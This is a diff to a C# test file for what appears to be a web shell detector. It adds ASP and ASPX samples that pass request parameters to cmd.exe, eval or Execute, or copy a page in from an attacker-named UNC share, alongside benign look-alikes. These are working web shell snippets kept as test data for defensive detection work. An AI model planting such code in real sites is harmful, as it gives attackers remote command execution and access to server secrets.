@@ -54,6 +54,16 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "if (Request.Form is { Count: > 0 } f) { var (c, _) = (f[\"c\"], 0); Process.Start(\"cmd\", \"/c \" + c); } %>")]
     [InlineData("a.aspx", Cs + "var q = from x in Request.Form.AllKeys where x == \"c\" select Request.Form[x]; Process.Start(\"cmd.exe\", \"/c \" + q.First()); %>")]
     [InlineData("a.aspx", Cs + "Controls.Add(ParseControl(Request[\"s\"])); %>")]
+    // Values that travel through initialisers, states, events, matches, records and callbacks.
+    [InlineData("a.aspx", "<%@ Page Language=\"C#\" %><script runat=server>class R { public string C { get; set; } public void Go() { Process.Start(\"cmd\", \"/c \" + C); } } void Page_Load() { var r = new R { C = Request[\"x\"] }; r.Go(); }</script>")]
+    [InlineData("a.aspx", Cs + "ThreadPool.QueueUserWorkItem(o => Process.Start(\"cmd\", \"/c \" + o), Request[\"z\"]); %>")]
+    [InlineData("a.aspx", Cs + "var q = Request[\"q\"]; var t = new System.Timers.Timer(9); t.Elapsed += (a, b) => Process.Start(\"cmd\", \"/c \" + q); t.Start(); %>")]
+    [InlineData("a.aspx", Cs + "var r = new Regex(\"<c>(.*)</c>\").Match(Request[\"d\"]); Process.Start(\"cmd\", \"/c \" + r.Groups[1].Value); %>")]
+    [InlineData("a.asp", "<% Set a = CreateObject(\"ADODB.Recordset\") : a.Fields.Append \"x\", 204, 9999 : a.Open : a.AddNew : a(\"x\").AppendChunk Request.BinaryRead(Request.TotalBytes) : Execute CStr(a(\"x\")) %>")]
+    [InlineData("a.asp", "<% Set x = CreateObject(\"Excel.Application\") : x.DDEInitiate \"cmd\", \"/c \" & Request(\"c\") %>")]
+    [InlineData("a.asp", Js + "String(Request('q')).replace(/.+/, function(m) { return eval(m); }); %>")]
+    [InlineData("a.asp", Js + "[String(Request('q'))].map(eval); %>")]
+    [InlineData("a.aspx", Cs + "File.Copy(@\"\\\\\" + Request[\"h\"] + @\"\\s\\x.aspx\", Server.MapPath(\"x.aspx\")); %>")]
     // Secrets.
     [InlineData("a.aspx", Cs + "var mk = (MachineKeySection)WebConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(mk.ValidationKey); %>")]
     [InlineData("a.aspx", Cs + "foreach (var p in new ServerManager().ApplicationPools) Response.Write(p.ProcessModel.UserName + p.ProcessModel.Password); %>")]
@@ -95,6 +105,10 @@ public sealed class FlowTests
     [InlineData("a.aspx", Cs + "var d = new Dictionary<string, Func<string, string>> { { \"up\", s => s.ToUpper() } }; Response.Write(Server.HtmlEncode(d[\"up\"](Request[\"c\"]))); %>")]
     [InlineData("a.aspx", Cs + "var q = from f in Directory.GetFiles(Server.MapPath(\"~/docs\")) where f.EndsWith(\".pdf\") select Path.GetFileName(f); Process.Start(\"tools\\index.exe\", q.First()); %>")]
     [InlineData("a.aspx", Cs + "Controls.Add(ParseControl(\"<asp:Label runat='server' Text='\" + DateTime.Now.Year + \"' />\")); %>")]
+    [InlineData("a.aspx", Cs + "var m = new Regex(@\"^([0-9]+)$\").Match(Request[\"d\"]); if (m.Success) Response.Write(int.Parse(m.Groups[1].Value) * 2); %>")]
+    [InlineData("a.asp", Js + "Response.Write(String(Request('q')).replace(/[<>&]/g, function(m) { return '&#' + m.charCodeAt(0) + ';'; })); %>")]
+    [InlineData("a.aspx", Cs + "ThreadPool.QueueUserWorkItem(o => File.AppendAllText(Server.MapPath(\"~/App_Data/hits.log\"), (string)o), Request.UserHostAddress); %>")]
+    [InlineData("a.aspx", Cs + "File.Copy(Server.MapPath(\"~/templates/default.aspx\"), Server.MapPath(\"~/site/default.aspx\"), true); %>")]
     [InlineData("a.asp", "<!--#include file=\"inc/header.inc\"-->")]
     [InlineData("web.config", "<configuration><system.webServer><handlers><add name=\"i\" path=\"*.jpg\" verb=\"*\" type=\"Shop.ImageHandler, Shop\"/></handlers></system.webServer></configuration>")]
     public void Used_honestly(string name, string page) => Is(WebShellVerdict.Benign, name, page);
